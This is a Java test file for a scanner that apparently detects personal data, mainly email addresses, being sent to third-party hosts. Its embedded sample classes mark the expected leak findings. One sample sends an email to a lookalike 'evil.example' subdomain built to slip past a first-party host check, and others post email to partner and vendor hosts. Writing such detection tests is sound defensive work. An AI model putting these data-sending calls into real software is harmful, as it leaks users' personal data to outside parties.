package io.github.piiflow.recipient;

import static io.github.piiflow.testing.LeakFolder.check;

import org.junit.jupiter.api.Test;

/** To whom it goes: resolved hosts, own ones, vendors. */
class RecipientsTest {
    private static final String OWN =
            "version: 1\nfirstParty: { hosts: [crm.acme.example, \"*.internal.acme.example\"] }\n";

    private static final String PERSON = """
            public class Person {
                private String email;
                private String orderNo;
                public String getEmail() { return email; }
                public String getOrderNo() { return orderNo; }
            }
            """;

    private static void checkClass(String settings, String source) {
        check(
                "piiflow.yml",
                OWN,
                "app/src/main/java/Person.java",
                PERSON,
                "app/src/main/java/Desk.java",
                source,
                "app/src/main/resources/application.yml",
                settings);
    }

    @Test
    void constantsAndJoinedTexts() {
        checkClass("a: b", """
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    private static final String HOST = "partner.example";
                    private static final String HOME = "https://ledger.internal.acme.example";
                    private final RestTemplate rest = new RestTemplate();
                    void run(Person p, String path) {
                        rest.put("https://" + HOST + "/p", p.getEmail()); // leak: email -> http to partner.example
                        rest.put(HOME + "/p", p.getEmail());
                        rest.put(HOME + path, p.getEmail());
                        rest.put(HOME + ".evil.example/p", p.getEmail()); // leak: email -> http to ledger.internal.acme.example.evil.example
                        rest.put(String.format("https://%s/p", "crm.acme.example"), p.getEmail());
                        rest.put("https://x.crm.acme.example/p", p.getEmail()); // leak: email -> http to x.crm.acme.example
                        rest.put("http://localhost:8080/p", p.getEmail());
                        rest.put("http://10.20.30.40/p", p.getEmail());
                        rest.put("https://192.168.1.9:8080/p", p.getEmail());
                        rest.put("http://172.20.0.3/p", p.getEmail());
                        rest.put("http://172.40.0.3/p", p.getEmail()); // leak: email -> http to 172.40.0.3
                        rest.put("http://crm.cluster.local/p", p.getEmail());
                        rest.put("http://crm.local.example/p", p.getEmail()); // leak: email -> http to crm.local.example
                        rest.put("http://10.20.30.40.example/p", p.getEmail()); // leak: email -> http to 10.20.30.40.example
                        rest.put(path, p.getEmail()); // leak: email -> http
                        rest.put("https://partner.example/p", p.getOrderNo());
                    }
                }
                """);
    }

    @Test
    void settingsWithProfilesAndDefaults() {
        checkClass("""
                crm: { url: "https://crm.acme.example/api" }
                ads.base-url: ${ads.host}/v1
                ads.host: https://ads.example
                """, """
                import org.springframework.beans.factory.annotation.Value;
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    @Value("${crm.url}") private String crm;
                    @Value("${ADS_BASEURL:https://crm.acme.example}") private String upper;
                    @Value("${missing:https://crm.acme.example}") private String fallback;
                    private final String ads;
                    private final RestTemplate rest;
                    Desk(@Value("${ads.base-url}") String ads, RestTemplate rest) { this.ads = ads; this.rest = rest; }
                    void run(Person p) {
                        rest.put(crm + "/p", p.getEmail());
                        rest.put(fallback + "/p", p.getEmail());
                        rest.put(ads + "/p", p.getEmail()); // leak: email -> http to ads.example
                    }
                }
                """);
    }

    @Test
    void anyProfileMayBeTheOneInProduction() {
        check(
                "piiflow.yml",
                OWN,
                "src/main/java/Person.java",
                PERSON,
                "src/main/java/Desk.java",
                """
                import org.springframework.core.env.Environment;
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    private Environment environment;
                    private RestTemplate rest;
                    void run(Person p) {
                        rest.put(environment.getProperty("crm.url") + "/p", p.getEmail()); // leak: email -> http to ads.example
                    }
                }
                """,
                "src/main/resources/application.properties",
                "crm.url = https://crm.acme.example\n",
                "src/main/resources/application-prod.properties",
                "# comment\ncrm.url = https://ads.\\\n  example\n");
    }

    @Test
    void theMachineItselfIsAStandInForWhatIsSetInProduction() {
        check(
                "piiflow.yml",
                OWN,
                "src/main/java/Person.java",
                PERSON,
                "src/main/java/Desk.java",
                """
                import java.util.Optional;
                import org.springframework.beans.factory.annotation.Value;
                import org.springframework.core.env.Environment;
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    @Value("${sms.url}") private String sms;
                    @Value("${bus.url:http://127.0.0.1:8080/bus}") private String bus;
                    @Value("http://${post.host:localhost}:${post.port:8080}") private String post;
                    @Value("${home.url:http://localhost:1}") private String home;
                    @Value("${intra.url:http://10.1.2.3}") private String intra;
                    @Value("${bird.url}") private String bird;
                    @Value("${dove.url}") private String dove;
                    @Value("${fish.url}") private String fish;
                    private Environment environment;
                    private RestTemplate rest;
                    void run(Person p) {
                        rest.put(sms, p.getEmail()); // leak: email -> http
                        rest.put(bus, p.getEmail()); // leak: email -> http
                        rest.put(post + "/p", p.getEmail()); // leak: email -> http
                        rest.put(bird, p.getEmail()); // leak: email -> http
                        rest.put(fish, p.getEmail()); // leak: email -> http to fish.example
                        rest.put(environment.getProperty("cat.url", "http://localhost:2"), p.getEmail()); // leak: email -> http
                        rest.put(Optional.ofNullable(System.getenv("DOG")).orElse("http://localhost:3"), p.getEmail()); // leak: email -> http
                        rest.put(home, p.getEmail());
                        rest.put(intra, p.getEmail());
                        rest.put(dove, p.getEmail());
                    }
                }
                """,
                "src/main/resources/application.properties",
                """
                sms.url=${SMS_URL:http://localhost/broadcasts}
                home.url=http://localhost:4
                dove.url=http://localhost:5
                %prod.fish.url=https://fish.example
                """,
                "src/main/resources/application-dev.yml",
                "bird.url: http://localhost:6\ndove.url: http://localhost:7\n");
    }

    @Test
    void addressesThatBuildersMake() {
        checkClass("a: b", """
                import java.net.URI;
                import java.net.URISyntaxException;
                import java.util.ArrayList;
                import java.util.List;
                import java.util.Map;
                import okhttp3.HttpUrl;
                import okhttp3.OkHttpClient;
                import okhttp3.Request;
                import okhttp3.RequestBody;
                import org.apache.http.NameValuePair;
                import org.apache.http.client.methods.HttpPost;
                import org.apache.http.client.utils.URIBuilder;
                import org.apache.http.entity.StringEntity;
                import org.apache.http.impl.client.CloseableHttpClient;
                import org.apache.http.message.BasicNameValuePair;
                import org.springframework.web.client.RestTemplate;
                import org.springframework.web.util.UriComponentsBuilder;
                class Desk {
                    private RestTemplate rest;
                    private OkHttpClient http;
                    private CloseableHttpClient client;
                    void home(Person p, String path, Map<String, String> map) throws Exception {
                        HttpPost post = new HttpPost(basic("http://localhost:" + Ports.port() + path, map));
                        post.setEntity(new StringEntity(p.getEmail(), "UTF-8"));
                        post.addHeader("Accept", "text/plain");
                        client.execute(post);
                    }
                    void away(Person p, String path, Map<String, String> map) throws Exception {
                        HttpPost post = new HttpPost(basic("http://partner.example:" + Ports.port() + path, map));
                        post.setEntity(new StringEntity(p.getEmail(), "UTF-8"));
                        client.execute(post); // leak: email -> http to partner.example
                    }
                    private static URI basic(String url, Map<String, String> map) {
                        List<NameValuePair> pairs = new ArrayList<>();
                        if (map != null) {
                            map.forEach((key, value) -> pairs.add(new BasicNameValuePair(key, value)));
                        }
                        try {
                            URIBuilder builder = new URIBuilder(url);
                            builder.addParameters(pairs);
                            return builder.build();
                        } catch (URISyntaxException e) {
                            return null;
                        }
                    }
                    void spring(Person p, int port) {
                        URI own = UriComponentsBuilder.fromHttpUrl("http://localhost:" + port).path("/x").build().toUri();
                        rest.put(own, p.getEmail());
                        rest.put(UriComponentsBuilder.newInstance().scheme("http").host("localhost").port(port).build().toUri(), p.getEmail());
                        URI other = UriComponentsBuilder.fromHttpUrl("http://partner.example:" + port).path("/x").build().toUri();
                        rest.put(other, p.getEmail()); // leak: email -> http to partner.example
                    }
                    void ok(Person p, int port) throws Exception {
                        HttpUrl own = HttpUrl.parse("http://127.0.0.1:" + port).newBuilder().addPathSegment("x").build();
                        http.newCall(new Request.Builder().url(own).post(RequestBody.create(p.getEmail(), null)).build()).execute();
                        HttpUrl other = HttpUrl.parse("http://partner.example:" + port).newBuilder().addPathSegment("x").build();
                        http.newCall(new Request.Builder().url(other).post(RequestBody.create(p.getEmail(), null)).build()).execute(); // leak: email -> http to partner.example
                    }
                }
                class Ports {
                    private static final java.util.Properties ALL = new java.util.Properties();
                    static int port() {
                        String port = ALL.getProperty("port");
                        return port == null || !port.matches("\\\\d{2,4}") ? 8080 : Integer.parseInt(port);
                    }
                }
                """);
    }

    @Test
    void classesBoundToAPrefix() {
        checkClass("""
                partner:
                  base-url: https://partner.example
                  own: { base-url: https://crm.acme.example }
                """, """
                import org.springframework.boot.context.properties.ConfigurationProperties;
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    private RestTemplate rest;
                    private Partner partner;
                    void run(Person p) {
                        rest.put(partner.getBaseUrl() + "/p", p.getEmail()); // leak: email -> http to partner.example
                        rest.put(partner.own.baseUrl + "/p", p.getEmail());
                    }
                    @ConfigurationProperties("partner")
                    static class Partner {
                        private String baseUrl;
                        Inner own;
                        String getBaseUrl() { return baseUrl; }
                    }
                    static class Inner { String baseUrl; }
                }
                """);
    }

    @Test
    void wrappersAreResolvedAtTheirCallers() {
        checkClass("a: b", """
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    private RestTemplate rest;
                    private void own(String path, String body) { rest.put("https://crm.acme.example" + path, body); }
                    private void any(String url, String body) {
                        rest.put(url, body); // leak: email -> http to partner.example
                    }
                    private void home(String url, String body) { rest.put(url, body); }
                    void run(Person p) {
                        own("/p", p.getEmail());
                        any("https://partner.example/p", p.getEmail());
                        home("https://crm.acme.example/p", p.getEmail());
                    }
                }
                """);
    }

    @Test
    void vendorsAreKnownByTheirHosts() {
        checkClass("a: b", """
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    private RestTemplate rest;
                    void run(Person p, String token) {
                        rest.put("https://api.stripe.com/v1/customers", p.getEmail()); // leak: email -> http to stripe
                        rest.put("https://hooks.slack.com/services/x", p.getEmail()); // leak: email -> http to slack
                    }
                }
                """);
    }

    @Test
    void streamsToTheNetwork() {
        checkClass("a: b", """
                import java.io.*;
                import java.net.*;
                class Desk {
                    void own(Person p) throws IOException {
                        try (Socket s = new Socket("crm.acme.example", 90)) {
                            new PrintWriter(s.getOutputStream()).println(p.getEmail());
                        }
                    }
                    void foreign(Person p) throws IOException {
                        HttpURLConnection c = (HttpURLConnection) URI.create("https://partner.example/x").toURL().openConnection();
                        c.setRequestProperty("X-Mail", p.getEmail()); // leak: email -> http to partner.example
                        c.getOutputStream().write(p.getEmail().getBytes()); // leak: email -> http to partner.example
                        c.getOutputStream().write(p.getOrderNo().getBytes());
                    }
                    String local(Person p) throws IOException {
                        StringWriter out = new StringWriter();
                        out.write(p.getEmail());
                        return out.toString();
                    }
                }
                """);
    }

    @Test
    void declaredClients() {
        checkClass("""
                clients: { own: "https://crm.acme.example" }
                spring.cloud.openfeign.client.config.named.url: https://named.example
                """, """
                import org.springframework.cloud.openfeign.FeignClient;
                import org.springframework.web.service.annotation.GetExchange;
                import org.springframework.web.service.annotation.HttpExchange;
                class Desk {
                    @FeignClient(name = "own", url = "${clients.own}") interface Own { void send(Person p); }
                    @FeignClient("named") interface Named { void send(Person p); }
                    @HttpExchange("https://geo.example") interface Geo { @GetExchange("/x") String find(String text); }
                    interface Plain { void send(Person p); }
                    void run(Own own, Named named, Geo geo, Plain plain, Person p) {
                        own.send(p);
                        plain.send(p);
                        named.send(p); // leak: email -> http to named.example
                        geo.find(p.getEmail()); // leak: email -> http to geo.example
                        geo.find(p.getOrderNo());
                    }
                }
                """);
    }

    @Test
    void applicationsOfTheScanFindEachOtherByName() {
        check(
                "stock/src/main/resources/application.yml",
                "spring: { application: { name: stock-service } }\n",
                "stock/src/main/java/Shelf.java",
                "class Shelf {}",
                "shop/src/main/java/Person.java",
                PERSON,
                "shop/src/main/java/Desk.java",
                """
                import org.springframework.cloud.openfeign.FeignClient;
                import org.springframework.web.client.RestTemplate;
                class Desk {
                    @FeignClient(name = "stock-service") interface Stock { void send(Object p); }
                    @FeignClient(name = "credit-check") interface Credit { void send(Object p); }
                    private RestTemplate rest;
                    void run(Stock stock, Credit credit, Person p) {
                        stock.send(p.getEmail());
                        credit.send(p.getEmail()); // leak: email -> http
                        rest.postForObject("http://stock-service/orders", p.getEmail(), String.class);
                        rest.postForObject("https://credit.example/orders", p.getEmail(), String.class); // leak: email -> http to credit.example
                    }
                }
                """);
    }

    @Test
    void clientsInPackagesOfOnesOwn() {
        check(
                "piiflow.yml",
                "version: 1\nfirstParty: { packages: [com.acme.own] }\n",
                "src/main/java/Person.java",
                PERSON,
                "src/main/java/com/acme/own/OwnClient.java",
                """
                package com.acme.own;
                import org.springframework.cloud.openfeign.FeignClient;
                @FeignClient("own")
                public interface OwnClient { void send(Object p); }
                """,
                "src/main/java/com/acme/other/OtherClient.java",
                """
                package com.acme.other;
                import org.springframework.cloud.openfeign.FeignClient;
                @FeignClient("other")
                public interface OtherClient { void send(Object p); }
                """,
                "src/main/java/Desk.java",
                """
                import com.acme.own.OwnClient;
                import com.acme.other.OtherClient;
                class Desk {
                    void run(OwnClient own, OtherClient other, Person p) {
                        own.send(p.getEmail());
                        other.send(p.getEmail()); // leak: email -> http
                    }
                }
                """);
    }

    @Test
    void clientsOfOnesOwnPackagesAreNoThirdParty() {
        check("src/main/java/com/acme/shop/web/Desk.java", """
                package com.acme.shop.web;
                import com.acme.shop.client.CrmClient;
                import com.partner.crm.PartnerClient;
                class Customer { private String email; String getEmail() { return email; } }
                class Desk {
                    private final CrmClient own = new CrmClient();
                    private final PartnerClient theirs = new PartnerClient();
                    void run(Customer customer) {
                        own.send(customer.getEmail());
                        theirs.send(customer.getEmail()); // leak: email -> third-party
                    }
                }
                """);
    }
}
